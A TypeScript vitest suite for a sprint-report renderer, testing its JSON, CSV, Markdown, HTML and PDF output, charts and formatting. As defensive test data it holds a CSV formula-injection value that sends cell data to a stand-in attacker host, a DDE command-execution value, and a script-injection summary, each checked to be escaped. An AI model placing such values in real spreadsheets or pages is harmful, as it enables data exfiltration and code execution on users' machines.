import { describe, expect, test } from 'vitest';
import { parse } from 'csv-parse/sync';
import { PDFParse } from 'pdf-parse';
import type { ReportFormat, ReportModel } from '../src/report-model.ts';
import { contentTypeOf, headline, renderReport } from '../src/render/index.ts';
import { niceTicks } from '../src/render/charts.ts';
import { date, hours, percent, points, reason } from '../src/render/format.ts';
import {
  capacity,
  closedSprint,
  emptyHistory,
  futureSprint,
  GREEK_CYRILLIC,
  history,
  longSprint,
  MODELS,
  SCRIPT,
  sprintRef,
  teamVelocity,
  UNICODE,
  velocity,
} from './report-models.ts';

const render = async (model: ReportModel, format: ReportFormat) => (await renderReport(model, format)).content.toString('utf8');

async function pdfText(content: Buffer) {
  const parser = new PDFParse({ data: new Uint8Array(content) });
  try {
    const [text, info] = [await parser.getText(), await parser.getInfo()];
    return { text: text.text, pages: text.pages.map((p) => p.text), info: info.info };
  } finally {
    await parser.destroy();
  }
}

/** The headline as the Markdown and PDF Summary tables show it: label then formatted value. */
const escapeRegExp = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

describe('file names and content types', () => {
  test('fileName is <kind>-report-<slug>.<ext>, content types per format', async () => {
    const expected: [ReportModel, string][] = [
      [closedSprint, 'sprint-report-atlas-board-atlas-sprint-12'],
      [velocity, 'velocity-report-atlas-board'],
      [teamVelocity, 'velocity-report-atlas'],
      [capacity, 'capacity-report-atlas-team-2026-01-01-2026-03-31'],
      [history, 'history-report-atlas-team-2026-01-01-2026-03-31'],
      [
        { ...closedSprint, board: { id: 'b-9', name: 'Équipe Ünïcode / Böard #2' }, sprint: { ...closedSprint.sprint, id: 's-7', name: '日本' } },
        'sprint-report-equipe-unicode-board-2-s-7',
      ],
    ];
    const extensions: Record<ReportFormat, string> = { JSON: 'json', CSV: 'csv', MARKDOWN: 'md', HTML: 'html', PDF: 'pdf' };
    for (const [model, slug] of expected) {
      for (const [format, extension] of Object.entries(extensions) as [ReportFormat, string][]) {
        const rendered = await renderReport(model, format);
        expect(rendered.fileName).toBe(`${slug}.${extension}`);
        expect(rendered.fileName).toMatch(/^[a-z0-9-]+\.[a-z]+$/);
        expect(rendered.contentType).toBe(contentTypeOf(format));
      }
    }
    expect([contentTypeOf('JSON'), contentTypeOf('CSV'), contentTypeOf('MARKDOWN'), contentTypeOf('HTML'), contentTypeOf('PDF')]).toEqual([
      'application/json; charset=utf-8',
      'text/csv; charset=utf-8',
      'text/markdown; charset=utf-8',
      'text/html; charset=utf-8',
      'application/pdf',
    ]);
  });
});

describe('JSON', () => {
  test.each(MODELS.map((m) => [m.title, m] as const))('%s parses back to the model', async (_, model) => {
    const json = await render(model, 'JSON');
    expect(JSON.parse(json)).toEqual(model);
    expect(json).toContain('\n  "kind"');
  });
});

describe('CSV', () => {
  const rows = async (model: ReportModel) => parse(await render(model, 'CSV'), { columns: true }) as Record<string, string>[];
  const cell = (n: number | null) => (n === null ? '' : String(n));

  test('SPRINT: one row per issue with its class, points and discipline; CRLF line ends', async () => {
    const csv = await render(closedSprint, 'CSV');
    expect(csv.split('\r\n')[0]).toBe(
      'key,summary,type,status,assignee,outcome,added_after_start,points_at_start,points_at_join,points_at_end,discipline,cycle_time_hours,lead_time_hours',
    );
    const records = await rows(closedSprint);
    expect(records).toHaveLength(closedSprint.issues.length);
    closedSprint.issues.forEach((issue, i) =>
      expect(records[i]).toEqual({
        key: issue.key,
        summary: issue.summary ?? '',
        type: issue.type ?? '',
        status: issue.status ?? '',
        assignee: issue.assignee ?? '',
        outcome: issue.outcome,
        added_after_start: String(issue.addedAfterStart),
        points_at_start: cell(issue.pointsAtStart),
        points_at_join: cell(issue.pointsAtJoin),
        points_at_end: cell(issue.pointsAtEnd),
        discipline: issue.discipline,
        cycle_time_hours: cell(issue.cycleTimeHours),
        lead_time_hours: cell(issue.leadTimeHours),
      }),
    );
    expect(records.map((r) => r.summary)).toContain(SCRIPT);
    expect(records.map((r) => r.summary)).toContain(UNICODE);
  });

  test('a summary or name that starts like a formula is written as text, so a spreadsheet does not run it', async () => {
    const hostile = {
      ...closedSprint,
      issues: [{ ...closedSprint.issues[0], summary: '=HYPERLINK("http://evil.example/"&A1,"click")', assignee: "+cmd|' /C calc'!A0" }],
    };
    const [record] = await rows(hostile);
    expect(record.summary).toBe(`'=HYPERLINK("http://evil.example/"&A1,"click")`);
    expect(record.assignee).toBe("'+cmd|' /C calc'!A0");
    // Numbers, negative ones too, stay numbers.
    const [negative] = await rows({ ...closedSprint, issues: [{ ...closedSprint.issues[0], pointsAtEnd: -2 }] });
    expect(negative.points_at_end).toBe('-2');
  });

  test('VELOCITY: one row per board and sprint, ratios unrounded, null as an empty cell', async () => {
    const records = await rows(velocity);
    expect(records).toHaveLength(3);
    expect(records[2]).toEqual({
      board: 'Atlas Board',
      sprint: 'Atlas Sprint 3',
      start: sprintRef(3).startDate,
      end: sprintRef(3).endDate,
      committed: '42.5',
      completed: '34',
      say_do_ratio: String(34 / 42.5),
      scope_change_rate: '0.125',
      rolling_average_3: String(61 / 3),
      rolling_average_5: '',
    });
    expect(records[1].say_do_ratio).toBe('');
  });

  test('CAPACITY: one row per sprint and discipline', async () => {
    const records = await rows(capacity);
    expect(records).toHaveLength(6);
    expect(Object.keys(records[0])).toEqual([
      'sprint',
      'board',
      'start',
      'discipline',
      'members',
      'available_days',
      'capacity_points',
      'committed_points',
      'completed_points',
      'utilisation',
    ]);
    expect(records[1]).toMatchObject({ sprint: 'Atlas Sprint 3', discipline: 'Frontend', capacity_points: '15.2', utilisation: String(21.5 / 15.2) });
    expect(records[5]).toMatchObject({ sprint: 'Atlas Sprint 4', discipline: 'QA', completed_points: '', utilisation: '' });
  });

  test('HISTORY: per sprint a row "All" and one per discipline; an empty history is the header alone', async () => {
    const records = await rows(history);
    expect(records).toHaveLength(9);
    expect(records.map((r) => r.discipline)).toEqual(['All', 'Backend', 'Frontend', 'All', 'Backend', 'Frontend', 'All', 'Backend', 'Frontend']);
    const sprint = history.sprints[2];
    expect(records[6]).toMatchObject({
      sprint: 'Atlas Sprint 3',
      committed: '33',
      completed: String(sprint.completedPoints),
      say_do_ratio: String(sprint.sayDoRatio),
      scope_change_rate: String(sprint.scopeChangeRate),
      carried_out_issues: '3',
      carried_out_points: '7.5',
      cycle_time_p50: '30',
    });
    expect(records[7]).toMatchObject({ discipline: 'Backend', committed: '13', scope_change_rate: '', carried_out_points: '' });
    expect(records[3]).toMatchObject({ say_do_ratio: '', cycle_time_p50: '20' });
    const empty = await render(emptyHistory, 'CSV');
    expect(empty.trim().split('\r\n')).toHaveLength(1);
    expect(empty).toMatch(/^sprint,board,start,end,closed,discipline,committed,completed,say_do_ratio/);
  });
});

describe('headline', () => {
  test('SPRINT: the analysis figures through the formatter', () => {
    const f = closedSprint.figures!;
    expect(headline(closedSprint)).toEqual([
      { label: 'Committed (points)', value: points(f.committedPoints) },
      { label: 'Completed (points)', value: points(f.completedPoints) },
      { label: 'Say/do ratio', value: percent(f.sayDoRatio) },
      { label: 'Completion rate', value: percent(f.completionRate) },
      { label: 'Scope change', value: percent(f.scopeChangeRate) },
      { label: 'Issues', value: '8' },
      { label: 'Cycle time p50', value: hours(f.cycleTime!.p50) },
      { label: 'Capacity utilisation', value: percent(closedSprint.capacity!.utilisation) },
    ]);
    expect(
      headline(closedSprint)
        .slice(0, 3)
        .map((h) => h.value),
    ).toEqual(['42.5', '34', '80 %']);
  });

  test('a future sprint says it has not started; nulls show as a dash', () => {
    // Nothing is committed before the start: the sprint's issues in JIRA and the queue's plan, each called what it is.
    expect(headline(futureSprint)).toEqual([
      { label: 'State', value: 'Future: not started' },
      { label: 'Issues in the sprint', value: '3' },
      { label: 'In the sprint (points)', value: '18' },
      { label: 'Capacity (points)', value: '45.13' },
      { label: 'Planned in the queue (points)', value: '13' },
      { label: 'Planned utilisation', value: '29 %' },
    ]);
    expect(headline({ ...futureSprint, queue: null }).map((h) => h.label)).toEqual([
      'State',
      'Issues in the sprint',
      'In the sprint (points)',
      'Capacity (points)',
    ]);
    expect(headline(emptyHistory).map((h) => h.value)).toEqual(['0', '—', '—', '—', '—', '—']);
  });

  test("VELOCITY names the board when there are several, in each board's unit", () => {
    expect(headline(velocity)[0]).toEqual({ label: 'Sprints', value: '3' });
    expect(headline(teamVelocity).map((h) => h.label)).toContain('Atlas Ops: Average completed (issues)');
    expect(headline(capacity)[1]).toEqual({ label: 'Backend', value: '26 of 43.2 points committed (60 %), 11 completed (42 %)' });
  });
});

describe('Markdown', () => {
  test('a title, the headline table with the formatted figures, and the sections', async () => {
    const md = await render(closedSprint, 'MARKDOWN');
    expect(md.startsWith('# Sprint report: Atlas Sprint 12\n')).toBe(true);
    expect(md).toContain('| Figure | Value |\n| --- | ---: |');
    for (const { label, value } of headline(closedSprint)) expect(md).toContain(`| ${label} | ${value} |`);
    for (const title of ['Issues: Completed (4)', 'Issues: Not completed (1)', 'Disciplines', 'Capacity', 'Queue outcome', 'Scope changes', 'Carry-over']) {
      expect(md).toContain(`## ${title}\n`);
    }
    expect(md).toContain(`| ATL-103 | ${UNICODE} | Story |`);
    expect(md).not.toContain('<script>');
    expect(md).toContain('\\<script\\>');
    expect(md).toContain('Grace \\| Hopper');
    expect(md).toContain(`| Frontend | 1 | ${points(9.5)} | ${points(15.2)} | ${points(21.5)} | ${points(18)} | ${percent(21.5 / 15.2)} |`);
  });

  test('an issue added after the start and re-estimated shows JIRA\'s "2 → 1"; others their estimate at the end', async () => {
    const added = closedSprint.issues.find((i) => i.addedAfterStart)!;
    const md = await render(
      { ...closedSprint, issues: closedSprint.issues.map((i) => (i === added ? { ...i, pointsAtJoin: 2, pointsAtEnd: 1 } : i)) },
      'MARKDOWN',
    );
    expect(md).toMatch(new RegExp(`\\| ${added.key} \\|.*\\| — \\| 2 → 1 \\| yes \\|`));
    // Not re-estimated: just its estimate, as before.
    expect(await render(closedSprint, 'MARKDOWN')).toMatch(new RegExp(`\\| ${added.key} \\|.*\\| — \\| 5 \\| yes \\|`));
  });

  test('the other kinds: their rows, and a note where there are none', async () => {
    const md = await render(velocity, 'MARKDOWN');
    expect(md).toContain(`| Atlas Sprint 3 | 2026-03-02 | 2026-03-13 | 42.5 | 34 | ${percent(0.8)} | 13 % | ${points(61 / 3)} | — |`);
    expect(await render(emptyHistory, 'MARKDOWN')).toContain('## Sprints\n\nNo sprint closed in the range.');
    expect(await render(futureSprint, 'MARKDOWN')).toContain('The sprint has not started: it has no analysis, burndown or discipline figures yet.');
    expect(await render(capacity, 'MARKDOWN')).toContain(`| Frontend | ${points(30.4)} | 43 | 18 | ${percent(43 / 30.4)} | ${percent(18 / 43)} |`);
  });
});

describe('HTML', () => {
  const svgs = (html: string) => [...html.matchAll(/<svg[\s\S]*?<\/svg>/g)].map((m) => m[0]);

  test('one self-contained file: nothing loaded from elsewhere, user text escaped', async () => {
    for (const model of MODELS) {
      const html = await render(model, 'HTML');
      expect(html.startsWith('<!doctype html>')).toBe(true);
      expect(html).not.toMatch(/\b(src|href)\s*=/i);
      expect(html).not.toMatch(/@import|url\(|https?:/i);
      expect(html).toContain('<style>');
    }
    const html = await render(closedSprint, 'HTML');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt; Fix login');
    expect(html).toContain(UNICODE);
    expect(html).toContain('Blocks &lt;release&gt;');
  });

  test('SPRINT: burndown and capacity charts, accessible, and the headline figures', async () => {
    const html = await render(closedSprint, 'HTML');
    const charts = svgs(html);
    expect(charts).toHaveLength(2);
    for (const svg of charts) {
      expect(svg).toMatch(/^<svg viewBox="0 0 640 260"[^>]* role="img" aria-label="[^"]+"/);
      expect(svg).toMatch(/<title>[^<]+<\/title>/);
    }
    expect(charts[0]).toContain('Burndown of Atlas Sprint 12');
    // Remaining runs over the 7 days with a figure and stops there: one line of 7 points.
    const remaining = [...charts[0].matchAll(/<path d="([^"]+)" fill="none" stroke="#2563eb"/g)].map((m) => m[1]);
    expect(remaining).toHaveLength(1);
    expect(remaining[0].split(/[ML]/).filter(Boolean)).toHaveLength(7);
    expect(charts[1]).toContain('Capacity, committed and completed points per discipline');
    for (const { label, value } of headline(closedSprint)) expect(html).toContain(`<td>${label}</td><td class="num">${value}</td>`);
  });

  test('charts of the other kinds; none where there is nothing to draw', async () => {
    expect(svgs(await render(velocity, 'HTML')).map((s) => s.match(/<title>([^<]+)/)![1])).toEqual([
      'Velocity of Atlas Board: committed and completed points per sprint, with the rolling average of 3',
    ]);
    expect(svgs(await render(teamVelocity, 'HTML'))).toHaveLength(1);
    expect(svgs(await render(capacity, 'HTML'))).toHaveLength(1);
    expect(svgs(await render(history, 'HTML')).map((s) => s.match(/aria-label="([^"]+)"/)![1])).toEqual([
      'Completed points per sprint',
      'Say/do ratio per sprint',
    ]);
    expect(svgs(await render(emptyHistory, 'HTML'))).toHaveLength(0);
    const future = await render(futureSprint, 'HTML');
    expect(svgs(future)).toHaveLength(1);
    expect(future).toContain('The sprint has not started: it has no analysis, burndown or discipline figures yet.');
    expect(future).not.toContain('<h2>Burndown</h2>');
    // No analysis, no classes: the issues are listed as they are.
    expect(future).toContain('<h2>Issues in the sprint (3)</h2>');
    expect(future).not.toContain('Issues: Completed');
  });
});

describe('PDF', () => {
  test('a PDF whose text holds the sprint, the Unicode summaries and the formatted figures', async () => {
    const { content } = await renderReport(closedSprint, 'PDF');
    expect(content.subarray(0, 5).toString()).toBe('%PDF-');
    const { text, info } = await pdfText(content);
    expect(info).toMatchObject({ Title: closedSprint.title, Author: 'Sprint Reports' });
    expect(text).toContain('Atlas Sprint 12');
    expect(text).toContain(GREEK_CYRILLIC);
    // DejaVu Sans has no CJK glyphs: "日本" cannot be drawn (see the report on this change).
    expect(text).toContain('Übersicht →');
    expect(text).toContain('<script>alert("owned")</script> Fix login');
    for (const { label, value } of headline(closedSprint)) expect(text).toMatch(new RegExp(`${escapeRegExp(label)}\\s+${escapeRegExp(value)}`));
  });

  test('a 120-issue sprint runs over several pages, the table header on each', async () => {
    const { pages, text } = await pdfText((await renderReport(longSprint, 'PDF')).content);
    expect(pages.length).toBeGreaterThan(2);
    const withIssues = pages.filter((p) => p.includes('Long-running task'));
    expect(withIssues.length).toBeGreaterThan(1);
    for (const page of withIssues) expect(page).toMatch(/Key\s+Summary\s+Type\s+Status\s+at\s+close\s+Assignee\s+Discipline/);
    for (const { key } of longSprint.issues) expect(text).toContain(`${key} Long-running task`);
    expect(pages.at(-1)).toContain(`page ${pages.length} of ${pages.length}`);
  });

  test('every kind renders, the same model to the same bytes', async () => {
    for (const model of MODELS) {
      const first = (await renderReport(model, 'PDF')).content;
      expect(first.equals((await renderReport(model, 'PDF')).content)).toBe(true);
      const { text } = await pdfText(first);
      expect(text).toContain(model.title);
      for (const { value } of headline(model)) expect(text).toContain(value);
    }
  });
});

describe('format and charts', () => {
  test('the formatter', () => {
    expect([points(42.5), points(1 / 3), points(2), points(-0.001), points(null)]).toEqual(['42.5', '0.33', '2', '0', '—']);
    expect([percent(0.834), percent(1.5), percent(null)]).toEqual(['83 %', '150 %', '—']);
    expect([hours(20.25), hours(null), date('2026-03-02T08:00:00.000Z'), date(null)]).toEqual(['20.3 h', '—', '2026-03-02', '—']);
    expect([reason('PLANNED_IN_JIRA'), reason('CARRY_OVER'), reason('Blocks <release>')]).toEqual(['Planned in JIRA', 'Carry over', 'Blocks <release>']);
  });

  test('nice ticks', () => {
    expect(niceTicks(42.5)).toEqual([0, 10, 20, 30, 40, 50]);
    expect(niceTicks(1.2)).toEqual([0, 0.5, 1, 1.5]);
    expect(niceTicks(0)).toEqual([0, 1]);
  });
});
